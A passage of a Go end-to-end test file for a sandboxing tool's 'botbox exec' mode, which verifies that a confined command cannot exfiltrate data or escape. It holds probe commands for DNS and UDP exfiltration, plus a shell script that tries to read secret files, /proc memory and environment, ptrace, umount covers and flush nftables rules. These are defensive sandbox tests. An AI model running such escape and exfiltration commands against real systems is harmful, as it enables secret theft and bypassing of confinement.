package e2e

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/botbox/botbox/test/e2e/internal/wire"
)

// Local mode (`botbox exec`, issue 22): BotBox runs as an unprivileged
// user created for these tests, in the pod namespace of newPod without any
// init rule (the pod stands for a developer's machine: its veth is the
// machine's way out, the net namespace is the internet), and confines a
// command it starts. Everything the command reaches, it reaches through
// BotBox: the pod has no rule at all, so a packet that got out of the
// command's namespace any other way would reach the origin.

// localUserName is the unprivileged user of the local mode tests.
const localUserName = "botbox-e2e-exec"

// localUserState is the user, made with useradd on first use and removed
// by TestMain (removeLocalUser) when this test binary made it.
type localUserState struct {
	once     sync.Once
	uid, gid int
	created  bool
	err      error
}

var localUserOf localUserState

// localUser returns the uid and gid of localUserName, creating the user.
func localUser(t *testing.T) (uid, gid int) {
	t.Helper()
	localUserOf.once.Do(func() {
		if _, err := user.Lookup(localUserName); err != nil {
			out, err := exec.Command("useradd", "--system", "--user-group", "--no-create-home",
				"--home-dir", "/nonexistent", "--shell", "/usr/sbin/nologin", localUserName).CombinedOutput()
			if err != nil {
				localUserOf.err = fmt.Errorf("useradd %s: %v: %s", localUserName, err, out)
				return
			}
			localUserOf.created = true
		}
		u, err := user.Lookup(localUserName)
		if err != nil {
			localUserOf.err = err
			return
		}
		localUserOf.uid, _ = strconv.Atoi(u.Uid)
		localUserOf.gid, _ = strconv.Atoi(u.Gid)
	})
	if localUserOf.err != nil {
		t.Fatalf("the local mode user: %v", localUserOf.err)
	}
	return localUserOf.uid, localUserOf.gid
}

// removeLocalUser deletes the user if this test binary created it.
func removeLocalUser() {
	if localUserOf.created {
		_ = exec.Command("userdel", localUserName).Run()
	}
}

// local is one local-mode scenario: a pod without rules, BotBox's config
// of podConfig, and the local user's home and runtime directory.
type local struct {
	p        *pod
	uid, gid int
	home     string
	runtime  string // XDG_RUNTIME_DIR: botbox exec's run directories
}

// newLocal builds the pod (no init rules, no BotBox: botbox exec starts
// its own) with an origin that also answers DNS for api.example.test.
func newLocal(t *testing.T, cfg podConfig) *local {
	t.Helper()
	requireRoot(t)
	if _, err := exec.LookPath("useradd"); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("useradd is missing in CI: %v", err)
		}
		t.Skipf("skipping local mode test: useradd: %v", err)
	}
	uid, gid := localUser(t)
	cfg.noInstall, cfg.noBotBox, cfg.dnsServer = true, true, true
	p := newPod(t, cfg)
	l := &local{p: p, uid: uid, gid: gid, home: filepath.Join(p.dir, "home"), runtime: filepath.Join(p.dir, "run")}
	for _, d := range []string{l.home, l.runtime} {
		if err := os.Mkdir(d, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(d, uid, gid); err != nil {
			t.Fatal(err)
		}
	}
	return l
}

// userArgv is cmd run as the local user in the pod, with a clean
// environment plus env.
func (l *local) userArgv(env []string, cmd ...string) []string {
	full := []string{"ip", "netns", "exec", l.p.podNS,
		"setpriv", "--reuid", strconv.Itoa(l.uid), "--regid", strconv.Itoa(l.gid), "--clear-groups",
		"env", "-i", "PATH=" + appPATH, "HOME=" + l.home, "XDG_RUNTIME_DIR=" + l.runtime, "LANG=C.UTF-8"}
	return append(append(full, env...), cmd...)
}

// argv is the full command line of `botbox exec [flags] -- cmd...` as the
// local user (userArgv).
func (l *local) argv(env, flags []string, cmd ...string) []string {
	full := append([]string{l.p.bins.botbox, "exec", "-c", l.p.configPath}, flags...)
	return l.userArgv(env, append(append(full, "--"), cmd...)...)
}

// execResult is how one run ended.
type execResult struct {
	stdout, stderr string
	code           int            // exit status (-1: killed by a signal)
	signal         syscall.Signal // the signal that ended it
}

// exec runs botbox exec to its end.
func (l *local) exec(t *testing.T, env, flags []string, cmd ...string) execResult {
	t.Helper()
	return runArgv(t, l.argv(env, flags, cmd...))
}

// runArgv runs argv to its end (at most commandTimeout).
func runArgv(t *testing.T, argv []string) execResult {
	t.Helper()
	return runArgvFiles(t, argv, nil)
}

// runArgvFiles is runArgv with more open descriptors (3, 4, ...).
func runArgvFiles(t *testing.T, argv []string, extra []*os.File) execResult {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), commandTimeout)
	defer cancel()
	c := exec.CommandContext(ctx, argv[0], argv[1:]...)
	c.Env = []string{"PATH=" + appPATH}
	c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	c.Cancel = func() error { return syscall.Kill(-c.Process.Pid, syscall.SIGKILL) }
	c.ExtraFiles = extra
	var o, e bytes.Buffer
	c.Stdout, c.Stderr = &o, &e
	err := c.Run()
	r := execResult{stdout: o.String(), stderr: e.String()}
	var ee *exec.ExitError
	switch {
	case err == nil:
	case errors.As(err, &ee):
		r.code = ee.ExitCode()
		if ws, ok := ee.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			r.signal = ws.Signal()
		}
	default:
		t.Fatalf("running %v: %v", argv, err)
	}
	return r
}

// mustExec is exec that fails the test unless the command exited 0.
func (l *local) mustExec(t *testing.T, env, flags []string, cmd ...string) execResult {
	t.Helper()
	r := l.exec(t, env, flags, cmd...)
	if r.code != 0 {
		t.Fatalf("botbox exec %v -- %v: exit %d (signal %v)\nstdout:\n%s\nstderr:\n%s", flags, cmd, r.code, r.signal, r.stdout, r.stderr)
	}
	return r
}

// assertNoLeftovers checks that nothing of a finished run remains: no run
// directory under XDG_RUNTIME_DIR, and none in the user's directory of
// the runs' private directories (which itself stays, empty).
func (l *local) assertNoLeftovers(t *testing.T) {
	t.Helper()
	for _, e := range l.runEntries(t) {
		t.Errorf("left behind in XDG_RUNTIME_DIR: %s", e)
	}
}

// runEntries lists what runs left in XDG_RUNTIME_DIR: its entries and
// those of the private directories' directory, which is not one.
func (l *local) runEntries(t *testing.T) []string {
	t.Helper()
	entries, err := os.ReadDir(l.runtime)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range entries {
		if e.Name() != "botbox-private-"+strconv.Itoa(l.uid) {
			out = append(out, e.Name())
			continue
		}
		private, err := os.ReadDir(filepath.Join(l.runtime, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range private {
			out = append(out, filepath.Join(e.Name(), p.Name()))
		}
	}
	return out
}

// waitFor polls cond every 20ms until it holds or timeout passes.
func waitFor(timeout time.Duration, cond func() bool) bool {
	deadline := time.Now().Add(timeout)
	for !cond() {
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(20 * time.Millisecond)
	}
	return true
}

// runLocalClient runs client c through botbox exec with urls. Its trust is
// what botbox exec gives it (the trust variables), nothing of the test's.
func (l *local) runLocalClient(t *testing.T, c clientScript, urls ...string) []clientResult {
	t.Helper()
	if c.src == "" {
		var res []clientResult
		for _, url := range urls {
			r := l.exec(t, nil, []string{"--quiet"}, append(c.argv(""), url)...)
			cr := clientResult{URL: url}
			if i := strings.LastIndex(r.stdout, "\n"); i >= 0 {
				cr.Body = r.stdout[:i]
				cr.Status, _ = strconv.Atoi(r.stdout[i+1:])
			}
			if r.code != 0 {
				cr.Error = fmt.Sprintf("exit %d: %s", r.code, strings.TrimSpace(r.stderr))
			}
			res = append(res, cr)
		}
		return res
	}
	script := filepath.Join(l.p.dir, "client-"+c.name+c.ext)
	writeFile(t, script, []byte(c.src), 0o644)
	r := l.mustExec(t, nil, []string{"--quiet"}, append(c.argv(script), urls...)...)
	var res []clientResult
	for line := range strings.Lines(r.stdout) {
		var cr clientResult
		if err := json.Unmarshal([]byte(line), &cr); err != nil {
			t.Fatalf("%s printed %q: %v (stderr %s)", c.name, line, err, r.stderr)
		}
		res = append(res, cr)
	}
	if len(res) != len(urls) {
		t.Fatalf("%s answered %d of %d URLs:\n%s\nstderr:\n%s", c.name, len(res), len(urls), r.stdout, r.stderr)
	}
	return res
}

// TestLocalModeClients: curl, Python's urllib and requests and Node, each
// run by the unprivileged user through botbox exec with its own bogus
// Authorization and no trust setting of its own, reach the allowed origin
// over http:// and https:// (intercepted with the run's CA, trusted through
// the variables botbox exec sets) with the credential injected, and get
// BotBox's 403 for a host without a rule, which the origin never hears of.
// With placeholders on, the command's environment holds API_KEY, a
// placeholder of the key's shape, never the key.
func TestLocalModeClients(t *testing.T) {
	t.Parallel()
	var clients []clientScript
	for _, c := range clientScripts() {
		if c.name == "java-httpclient" {
			continue // the JVM reads no PEM variable (docs/local.md)
		}
		if why := clientMissing(c); why != "" {
			if os.Getenv("CI") != "" {
				t.Fatalf("client %s missing in CI: %s", c.name, why)
			}
			t.Logf("skipping client %s: %s", c.name, why)
			continue
		}
		clients = append(clients, c)
	}
	key := "sk-" + randomHex(t, 16)
	l := newLocal(t, podConfig{secrets: map[string]string{"api-key": key}, placeholders: true})
	injected := []string{"Bearer " + key}
	for _, c := range clients {
		t.Run(c.name, func(t *testing.T) {
			base := "/local/" + c.name
			mark := l.p.mark(t)
			res := l.runLocalClient(t, c,
				"http://"+hostAPI+base+"/http",
				"http://"+hostOther+base+"/denied",
				"https://"+hostAPI+base+"/https",
			)
			for i, want := range []int{200, 403, 200} {
				if r := res[i]; r.Status != want || r.Error != "" {
					t.Errorf("%s: status %d error %q body %q, want %d", r.URL, r.Status, r.Error, r.Body, want)
				}
			}
			if got := strings.TrimSpace(res[1].Body); got != "host not allowed" {
				t.Errorf("%s: body %q, want BotBox's \"host not allowed\"", res[1].URL, got)
			}
			for _, path := range []string{base + "/http", base + "/https"} {
				ev := l.p.httpEvent(t, mark, path)
				if !ev.TLS || ev.Port != 443 || ev.Host != hostAPI || !slices.Equal(ev.Header["Authorization"], injected) {
					t.Errorf("origin saw %s as tls=%v port=%d host=%q Authorization=%q, want TLS 443 %s with the injected key only",
						path, ev.TLS, ev.Port, ev.Host, ev.Header["Authorization"], hostAPI)
				}
			}
			for _, ev := range l.p.events(t, mark) {
				if ev.Path == base+"/denied" || ev.Host == hostOther || ev.SNI == hostOther {
					t.Errorf("origin saw the denied request: #%d %s %s host %q", ev.Seq, ev.Kind, ev.Path, ev.Host)
				}
			}
		})
	}
	t.Run("placeholder variable", func(t *testing.T) {
		r := l.mustExec(t, nil, []string{"--quiet"}, "sh", "-c", `printf %s "$API_KEY"`)
		if r.stdout == "" || r.stdout == key || len(r.stdout) != len(key) || !strings.HasPrefix(r.stdout, "sk-") {
			t.Errorf("API_KEY in the command's environment is %q, want a placeholder of the key's shape", r.stdout)
		}
	})
	t.Run("trust variables", func(t *testing.T) {
		r := l.mustExec(t, nil, []string{"--quiet"}, "sh", "-c",
			`for v in SSL_CERT_FILE NODE_EXTRA_CA_CERTS REQUESTS_CA_BUNDLE CURL_CA_BUNDLE GIT_SSL_CAINFO; do eval "f=\$$v"; test -r "$f" && grep -c 'BEGIN CERTIFICATE' "$f" || echo "$v unset"; done`)
		lines := strings.Fields(r.stdout)
		if len(lines) != 5 {
			t.Fatalf("trust variables: %q", r.stdout)
		}
		for _, n := range lines {
			if c, err := strconv.Atoi(n); err != nil || c < 2 {
				t.Errorf("a trust bundle holds %q certificates, want the system roots and the run's CA: %q", n, r.stdout)
			}
		}
	})
	l.assertNoLeftovers(t)
}

// clientBatch runs e2e-client once per probe inside one botbox exec and
// returns one result per probe (the client prints one JSON line each).
func (l *local) clientBatch(t *testing.T, probes [][]string) []wire.Result {
	t.Helper()
	var script strings.Builder
	for _, p := range probes {
		script.WriteString(l.p.bins.client)
		for _, a := range p {
			script.WriteString(" '" + a + "'")
		}
		script.WriteString("\n")
	}
	r := l.mustExec(t, nil, []string{"--quiet"}, "sh", "-c", script.String())
	var out []wire.Result
	for line := range strings.Lines(r.stdout) {
		var res wire.Result
		if err := json.Unmarshal([]byte(line), &res); err != nil {
			t.Fatalf("e2e-client printed %q: %v\nstderr:\n%s", line, err, r.stderr)
		}
		if res.UID != l.uid {
			t.Fatalf("e2e-client ran as UID %d, want the local user %d", res.UID, l.uid)
		}
		out = append(out, res)
	}
	if len(out) != len(probes) {
		t.Fatalf("%d results for %d probes:\n%s\nstderr:\n%s", len(out), len(probes), r.stdout, r.stderr)
	}
	return out
}

// TestLocalModeContainment: from inside botbox exec, nothing but BotBox
// reaches out. The pod (the machine) has no rule at all, so each of these
// would succeed without the command's namespace: direct TCP to the
// origin's other port over IPv4 and IPv6, to the machine's own address and
// to a server on the machine's loopback; UDP to the origin (QUIC); ICMP
// echo over both families. IPv6 to port 80 goes through BotBox (the
// credential injected, as for IPv4). DNS to any resolver address is
// answered by the guard: the allowed name resolves, others get NXDOMAIN,
// and only BotBox's own query for the allowed name reaches the DNS server.
func TestLocalModeContainment(t *testing.T) {
	t.Parallel()
	key := "sk-" + randomHex(t, 16)
	l := newLocal(t, podConfig{secrets: map[string]string{"api-key": key}})
	p := l.p
	// A server on the machine's loopback and its address: what a
	// developer's database or Docker API is.
	hostSrv := startProc(t, "host-listener", p.dir, nil, "ip", "netns", "exec", p.podNS, p.bins.client, "listen",
		"-addr", "127.0.0.1:7777", "-addr", "[::1]:7777", "-addr", p.podIP4.String()+":7777")
	if !waitFor(startupTimeout, func() bool { return strings.Contains(hostSrv.logs(), "ready") }) {
		t.Fatalf("host listener did not start: %s", hostSrv.logs())
	}
	mark := p.mark(t)
	exfil := "exfil-" + randomHex(t, 6)
	tcp := func(addr string) []string { return []string{"tcp", "-addr", addr, "-connect-timeout", "1s"} }
	dnsq := func(resolver, name, qtype string, overTCP bool) []string {
		a := []string{"dns", "-addr", resolver, "-name", name, "-qtype", qtype, "-timeout", "3s"}
		if overTCP {
			a = append(a, "-tcp")
		}
		return a
	}
	probes := [][]string{
		tcp(p.addr4(8443).String()),                                                                  // 0
		tcp(p.addr6(8443).String()),                                                                  // 1
		tcp(p.podIP4.String() + ":7777"),                                                             // 2
		tcp("127.0.0.1:7777"),                                                                        // 3: the command's own loopback
		tcp("[::1]:7777"),                                                                            // 4
		{"udp", "-addr", p.addr4(443).String(), "-payload", exfil},                                   // 5
		{"udp", "-addr", p.addr6(443).String(), "-payload", exfil},                                   // 6
		{"ping", "-addr", p.netIP4.String(), "-timeout", "2s"},                                       // 7
		{"ping", "-addr", p.netIP6.String(), "-timeout", "2s"},                                       // 8
		{"http", "-url", "http://" + hostV6 + "/local/v6"},                                           // 9
		dnsq(p.addr4(53).String(), hostAPI, "A", false),                                              // 10
		dnsq(p.addr6(53).String(), hostAPI, "AAAA", true),                                            // 11
		dnsq("127.0.0.53:53", exfil+".exfil.test", "TXT", false),                                     // 12
		dnsq(p.addr4(53).String(), hostOther, "A", true),                                             // 13
		dnsq("[::1]:53", exfil+"-v6.exfil.test", "AAAA", false),                                      // 14
		tcp("[::ffff:" + p.netIP4.String() + "]:8443"),                                               // 15: IPv4-mapped IPv6
		{"http", "-url", "http://[::ffff:" + p.netIP4.String() + "]/local/mapped", "-host", hostAPI}, // 16
	}
	res := l.clientBatch(t, probes)
	for _, i := range []int{0, 1, 2, 15} {
		assertNoConnection(t, strings.Join(probes[i], " "), res[i])
	}
	if r := res[16]; r.Status != 200 || r.Echo == nil || r.Echo.Path != "/local/mapped" {
		t.Errorf("http to an IPv4-mapped address: status %d error %q, want 200 through BotBox", r.Status, r.Error)
	}
	for i := 3; i <= 4; i++ {
		if res[i].Connected {
			t.Errorf("%s: connected, want the command's own empty loopback (refused)", strings.Join(probes[i], " "))
		}
	}
	for i := 5; i <= 8; i++ {
		if res[i].Connected {
			t.Errorf("%s: sent, want the packet refused", strings.Join(probes[i], " "))
		}
	}
	if r := res[9]; r.Status != 200 || r.Echo == nil || r.Echo.Path != "/local/v6" {
		t.Errorf("http://%s over IPv6: status %d error %q, want 200 from the origin through BotBox", hostV6, r.Status, r.Error)
	}
	ev := p.httpEvent(t, mark, "/local/v6")
	if !ev.TLS || !slices.Equal(ev.Header["Authorization"], []string{"Bearer " + key}) {
		t.Errorf("origin saw /local/v6 tls=%v Authorization=%q, want TLS with the key injected", ev.TLS, ev.Header["Authorization"])
	}
	for i, want := range map[int]string{10: p.netIP4.String(), 11: p.netIP6.String()} {
		if r := res[i]; r.Status != dns.RcodeSuccess || r.Body != want {
			t.Errorf("%s: rcode %d answer %q error %q, want %s", strings.Join(probes[i], " "), r.Status, r.Body, r.Error, want)
		}
	}
	for _, i := range []int{12, 13, 14} {
		if r := res[i]; !r.Connected || r.Status != dns.RcodeNameError {
			t.Errorf("%s: connected=%v rcode %d error %q, want NXDOMAIN from the guard", strings.Join(probes[i], " "), r.Connected, r.Status, r.Error)
		}
	}
	p.assertNoTCP(t, mark, p.addr4(8443))
	p.assertNoTCP(t, mark, p.addr6(8443))
	p.assertNoUDP(t, mark, p.addr4(443))
	p.assertNoUDP(t, mark, p.addr6(443))
	for _, e := range p.events(t, mark) {
		if strings.Contains(e.Payload, exfil) || strings.Contains(e.Payload, hostOther) {
			t.Errorf("the net namespace received %s %q at %s (#%d)", e.Kind, e.Payload, e.Local, e.Seq)
		}
	}
	// --tcp-ports 8443: HTTP to port 8443 of any address now goes to
	// BotBox's plain listener, which judges it (the rule allows only 443:
	// BotBox's 403), where it timed out above; the origin hears nothing.
	mark = p.mark(t)
	r := l.mustExec(t, nil, []string{"--quiet", "--tcp-ports", "8443"}, p.bins.client, "http", "-url", "http://"+hostAPI+":8443/local/port")
	var got wire.Result
	if err := json.Unmarshal([]byte(r.stdout), &got); err != nil || got.Status != 403 {
		t.Errorf("--tcp-ports 8443: http://%s:8443/: %q (%v), want BotBox's 403", hostAPI, r.stdout, err)
	}
	p.assertNoTCP(t, mark, p.addr4(8443))
	if logs := hostSrv.logs(); strings.Contains(logs, "connected") {
		t.Errorf("the machine's own listener saw a connection from the command:\n%s", logs)
	}
	l.assertNoLeftovers(t)
}

// startExec starts botbox exec in the background and waits until its
// command printed "ready" on stdout.
func (l *local) startExec(t *testing.T, name string, cmd ...string) *proc {
	t.Helper()
	argv := l.argv(nil, []string{"--quiet"}, cmd...)
	pr := startProc(t, name, l.p.dir, []string{"PATH=" + appPATH}, argv...)
	if !waitFor(startupTimeout, func() bool {
		out, _ := os.ReadFile(pr.stdoutPath)
		return strings.Contains(string(out), "ready") || pr.exited()
	}) || pr.exited() {
		t.Fatalf("botbox exec %v did not get ready:\n%s", cmd, pr.logs())
	}
	return pr
}

// descendants returns the PIDs below pid (host PID namespace), children
// first.
func descendants(pid int) []int {
	var out []int
	queue := []int{pid}
	for len(queue) > 0 {
		p := queue[0]
		queue = queue[1:]
		tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/children", p))
		for _, f := range tasks {
			b, _ := os.ReadFile(f)
			for _, s := range strings.Fields(string(b)) {
				if c, err := strconv.Atoi(s); err == nil {
					out = append(out, c)
					queue = append(queue, c)
				}
			}
		}
	}
	return out
}

// alive reports whether pid exists and is not a zombie.
func alive(pid int) bool {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return false
	}
	_, rest, _ := strings.Cut(string(b), ") ")
	return !strings.HasPrefix(rest, "Z")
}

// nsHolders returns the PIDs whose network namespace is ns (a
// /proc/PID/ns/net link target such as "net:[4026532]").
func nsHolders(ns string) []int {
	var out []int
	links, _ := filepath.Glob("/proc/[0-9]*/ns/net")
	for _, l := range links {
		if target, err := os.Readlink(l); err == nil && target == ns {
			pid, _ := strconv.Atoi(strings.Split(l, "/")[2])
			out = append(out, pid)
		}
	}
	return out
}

// TestLocalModeCannotReachSecrets: the command sees neither secrets_dir
// (empty), nor the CA key the config names, nor the config file, nor the
// run's private directory; its /proc is its own PID namespace's (the
// helper as PID 1, no BotBox), the helper's memory and environment are
// closed to it (ptrace and /proc/1/mem fail). It cannot take the covers
// off (umount), nor from a user and mount namespace of its own (umount,
// a plain bind of / that would show what is under them, a recursive one),
// nor read or flush the nftables rules. Outside the namespace,
// another process of the same user cannot read BotBox's /proc/PID/mem or
// environ either (PR_SET_DUMPABLE 0), while it can a plain process's.
func TestLocalModeCannotReachSecrets(t *testing.T) {
	t.Parallel()
	key := "sk-" + randomHex(t, 16)
	l := newLocal(t, podConfig{secrets: map[string]string{"api-key": key}, interception: true})
	caKey := filepath.Join(filepath.Dir(l.p.botboxCA), "ca.key")
	if err := os.Chown(caKey, l.uid, l.gid); err != nil {
		t.Fatal(err)
	}
	secretFile := filepath.Join(l.p.secrets.dir, "api-key")
	script := fmt.Sprintf(`
for f in %q %q %q; do cat "$f" >/dev/null 2>&1 && echo "READ $f"; done
ls -A %q | sed 's/^/SECRETS-DIR /'
for d in "$XDG_RUNTIME_DIR"/botbox-private-*; do ls -A "$d" | sed 's/^/PRIVATE /'; done
ls /proc | grep -E '^[0-9]+$' | sort -n | tr '\n' ' ' | sed 's/^/PIDS /'; echo
cat /proc/1/environ >/dev/null 2>&1 && echo "READ /proc/1/environ"
dd if=/proc/1/mem bs=1 count=1 skip=4194304 >/dev/null 2>&1 && echo "READ /proc/1/mem"
python3 -c 'import ctypes,sys; l=ctypes.CDLL(None, use_errno=True); r=l.ptrace(16, 1, 0, 0); print("PTRACE", r, ctypes.get_errno())'
umount %[4]q 2>/dev/null && echo "UMOUNTED"
ls -A %[4]q | sed 's/^/SECRETS-DIR-AFTER-UMOUNT /'
unshare -Urm sh -c 'umount -l %[4]q 2>/dev/null; ls -A %[4]q | sed "s/^/NESTED-UMOUNT /"; d=$(mktemp -d); mount --bind / $d 2>/dev/null && ls -A $d%[4]s | sed "s/^/NESTED-BIND /"; mount --rbind / $d 2>/dev/null && ls -A $d%[4]s | sed "s/^/NESTED-RBIND /"; true'
curl -sS -o /dev/null --max-time 10 -w 'HTTPS %%{http_code}\n' https://%[5]s/local/config-ca
grep -qF "$(sed -n 2p %[6]q)" "$SSL_CERT_FILE" && echo CONFIG-CA-IN-BUNDLE
nft flush ruleset 2>/dev/null && echo "RULES FLUSHED"
nft list ruleset >/dev/null 2>&1 && echo "RULES READ"
python3 -c 'import glob; print("SEES BOTBOX" if any(b"\0exec\0-c\0" in open(f, "rb").read() for f in glob.glob("/proc/[0-9]*/cmdline")) else "")'
echo done`, secretFile, caKey, l.p.configPath, l.p.secrets.dir, hostAPI, l.p.botboxCA)
	r := l.mustExec(t, nil, []string{"--quiet"}, "sh", "-c", script)
	out := r.stdout
	for _, bad := range []string{"READ ", "SECRETS-DIR ", "PRIVATE ", "SEES BOTBOX", "UMOUNTED", "SECRETS-DIR-AFTER", "NESTED-", "RULES "} {
		if strings.Contains(out, bad) {
			t.Errorf("the command reached what it must not (%q):\n%s", bad, out)
		}
	}
	// The CA the config names (not one made for the run) intercepts, and
	// the trust variables carry it.
	if !strings.Contains(out, "HTTPS 200\n") || !strings.Contains(out, "CONFIG-CA-IN-BUNDLE\n") {
		t.Errorf("https through the config's CA did not answer 200:\n%s\n%s", out, r.stderr)
	}
	if !strings.Contains(out, "PTRACE -1 1\n") {
		t.Errorf("ptrace(PTRACE_ATTACH, 1) did not fail with EPERM:\n%s", out)
	}
	if !strings.Contains(out, "PIDS 1 ") || !strings.HasSuffix(strings.TrimSpace(out), "done") {
		t.Errorf("the command's /proc is not its PID namespace's:\n%s", out)
	}
	if strings.Contains(out+r.stderr, key) {
		t.Errorf("the secret value reached the command's output")
	}

	// A descriptor BotBox inherits (a service manager's socket, a
	// connection its shell kept) does not reach the command: here a pipe
	// the test holds open as botbox exec's descriptor 5 (3 becomes the
	// helper's socket pair in the helper).
	rp, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer rp.Close()
	rr := runArgvFiles(t, l.argv(nil, []string{"--quiet"}, "sh", "-c", "echo leaked >&5 && echo WROTE-FD5; ls /proc/self/fd | tr '\\n' ' '"), []*os.File{pw, pw, pw})
	pw.Close()
	if leaked, _ := io.ReadAll(rp); len(leaked) > 0 || strings.Contains(rr.stdout, "WROTE-FD5") {
		t.Errorf("the command wrote to a descriptor botbox exec inherited (%q): %s", leaked, rr.stdout)
	}
	// From outside: the same user, in the machine's namespaces.
	pr := l.startExec(t, "botbox-exec-sleep", "sh", "-c", "echo ready; exec sleep 20")
	pid := pr.cmd.Process.Pid
	exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
	if exe != l.p.bins.botbox {
		t.Fatalf("PID %d is %q, want botbox", pid, exe)
	}
	probe := func(target int) string {
		r := runArgv(t, l.userArgv(nil, "sh", "-c", fmt.Sprintf(
			`cat /proc/%d/environ >/dev/null 2>&1 && echo environ; dd if=/proc/%d/mem bs=1 count=1 skip=4194304 2>&1 | grep -q 'Permission denied' || echo mem-open; stat -c %%u /proc/%d/environ`, target, target, target)))
		return strings.TrimSpace(r.stdout)
	}
	if got := probe(pid); got != "0" {
		t.Errorf("another process of the user on BotBox (PID %d): %q, want nothing readable and /proc/PID owned by root (not dumpable)", pid, got)
	}
	control := startProc(t, "control-sleep", l.p.dir, nil, "setpriv", "--reuid", strconv.Itoa(l.uid), "--regid", strconv.Itoa(l.gid), "--clear-groups", "sleep", "20")
	if got := probe(control.cmd.Process.Pid); !strings.HasPrefix(got, "environ") || !strings.HasSuffix(got, strconv.Itoa(l.uid)) {
		t.Errorf("control: a plain process of the user gives %q, want environ readable (else the check above proves nothing)", got)
	}
}

// TestLocalModeExitStatusAndSignals: the command's exit status is botbox
// exec's; a command killed by a signal ends botbox exec by the same
// signal; SIGUSR1 and SIGTERM sent to botbox reach the command (its trap
// runs); a missing command is 127.
func TestLocalModeExitStatusAndSignals(t *testing.T) {
	t.Parallel()
	l := newLocal(t, podConfig{secrets: map[string]string{"api-key": "sk-" + randomHex(t, 16)}})
	if r := l.exec(t, nil, []string{"--quiet"}, "sh", "-c", "exit 7"); r.code != 7 {
		t.Errorf("exit 7: botbox exec exited %d (signal %v): %s", r.code, r.signal, r.stderr)
	}
	if r := l.exec(t, nil, []string{"--quiet"}, "sh", "-c", "kill -TERM $$"); r.signal != syscall.SIGTERM {
		t.Errorf("command killed by SIGTERM: botbox exec exited %d (signal %v), want SIGTERM", r.code, r.signal)
	}
	if r := l.exec(t, nil, []string{"--quiet"}, "no-such-command-botbox"); r.code != 127 || !strings.Contains(r.stderr, "not found") {
		t.Errorf("missing command: exit %d stderr %q, want 127 and \"not found\"", r.code, r.stderr)
	}
	for _, tc := range []struct {
		sig  syscall.Signal
		name string
		code int
	}{{syscall.SIGUSR1, "USR1", 3}, {syscall.SIGTERM, "TERM", 4}} {
		pr := l.startExec(t, "botbox-exec-trap-"+tc.name, "sh", "-c",
			fmt.Sprintf(`trap 'echo got-%s; exit %d' %s; echo ready; while :; do sleep 0.05; done`, tc.name, tc.code, tc.name))
		if err := pr.cmd.Process.Signal(tc.sig); err != nil {
			t.Fatal(err)
		}
		select {
		case <-pr.done:
		case <-time.After(10 * time.Second):
			t.Fatalf("botbox exec did not end after %v", tc.sig)
		}
		out, _ := os.ReadFile(pr.stdoutPath)
		if code := pr.cmd.ProcessState.ExitCode(); code != tc.code || !strings.Contains(string(out), "got-"+tc.name) {
			t.Errorf("%v to botbox: exit %d, output %q; want the command's trap (exit %d)\n%s", tc.sig, code, out, tc.code, pr.logs())
		}
	}
	l.assertNoLeftovers(t)
}

// TestLocalModeLeavesNothing: after a SIGKILL of the command, botbox exec
// ends (by SIGKILL, as its command did) and nothing is left: no process of
// the run (the command's background children included), no process in its
// network namespace, no run directory. After a SIGKILL of botbox itself,
// the helper dies with it (PR_SET_PDEATHSIG) and so does everything in
// the namespace; the run directory it could not remove is removed by the
// next botbox exec.
func TestLocalModeLeavesNothing(t *testing.T) {
	t.Parallel()
	l := newLocal(t, podConfig{secrets: map[string]string{"api-key": "sk-" + randomHex(t, 16)}})
	for _, victim := range []string{"command", "botbox"} {
		t.Run("SIGKILL of the "+victim, func(t *testing.T) {
			pr := l.startExec(t, "botbox-exec-kill-"+victim, "sh", "-c", "sleep 300 & sleep 300 & echo ready; wait")
			pid := pr.cmd.Process.Pid
			var below []int
			if !waitFor(startupTimeout, func() bool { below = descendants(pid); return len(below) >= 4 }) {
				t.Fatalf("want helper, sh and two sleeps below botbox, got %v", below)
			}
			helper, command := below[0], below[1]
			ns, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/net", helper))
			if err != nil {
				t.Fatal(err)
			}
			target := command
			if victim == "botbox" {
				target = pid
			}
			if err := syscall.Kill(target, syscall.SIGKILL); err != nil {
				t.Fatal(err)
			}
			select {
			case <-pr.done:
			case <-time.After(10 * time.Second):
				t.Fatalf("botbox exec did not end after SIGKILL of the %s", victim)
			}
			if ws, _ := pr.cmd.ProcessState.Sys().(syscall.WaitStatus); !ws.Signaled() || ws.Signal() != syscall.SIGKILL {
				t.Errorf("botbox exec ended with %v, want killed by SIGKILL", pr.cmd.ProcessState)
			}
			if !waitFor(5*time.Second, func() bool {
				for _, p := range below {
					if alive(p) {
						return false
					}
				}
				return len(nsHolders(ns)) == 0
			}) {
				t.Errorf("left behind: processes %v still alive of %v; in %s: %v", slices.DeleteFunc(slices.Clone(below), func(p int) bool { return !alive(p) }), below, ns, nsHolders(ns))
			}
			if victim == "botbox" {
				if entries := l.runEntries(t); len(entries) != 2 {
					t.Errorf("after SIGKILL of botbox: %q left, want its run directory and its private directory (it cannot remove them)", entries)
				}
				l.mustExec(t, nil, []string{"--quiet"}, "true")
			}
			l.assertNoLeftovers(t)
		})
	}
}

// tmuxPane is one tmux session on a socket of the test, driven with
// send-keys and read with capture-pane.
type tmuxPane struct {
	t    *testing.T
	sock string
}

func newTmux(t *testing.T, dir string, argv ...string) *tmuxPane {
	t.Helper()
	if _, err := exec.LookPath("tmux"); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("tmux is missing in CI (.ci/run installs it): %v", err)
		}
		t.Skipf("skipping: tmux: %v", err)
	}
